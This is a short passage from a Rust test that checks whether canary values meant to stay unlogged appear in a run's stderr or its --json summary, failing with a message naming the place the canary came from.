            .map(Value::to_string)
            .unwrap_or_default();
        for (place, canary) in c.unlogged() {
            assert!(
                !contains(&run.out.stderr, canary),
                "the {place} canary reached the stderr of {}",
                run.what
            );
            assert!(
                !summary.contains(canary),
                "the {place} canary reached the --json summary of {}",
                run.what
            );
        }
    }
}
